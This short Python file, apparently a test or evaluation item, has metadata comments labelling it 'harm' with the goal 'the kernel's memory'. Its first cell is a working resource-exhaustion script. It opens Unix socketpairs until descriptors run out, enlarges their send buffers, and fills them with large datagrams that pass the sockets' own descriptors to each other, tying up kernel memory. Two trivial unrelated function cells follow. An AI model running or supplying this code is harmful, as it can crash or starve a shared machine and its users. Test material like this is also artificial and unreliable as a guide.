# kind = "harm"
# goal = "the kernel's memory"
# trick = "as many sockets as there are descriptors, their buffers full of data and of descriptors of each other"
# mark = 7
# %%
import array, os, socket
kept = []
try:
    while True:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        kept += [a, b]
        a.setblocking(False)
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        try:
            while True:
                a.sendmsg([b"x" * 60000], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [a.fileno(), b.fileno()]))])
        except OSError:
            pass
except OSError:
    del kept
# %% solve="double"
def double(x): return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
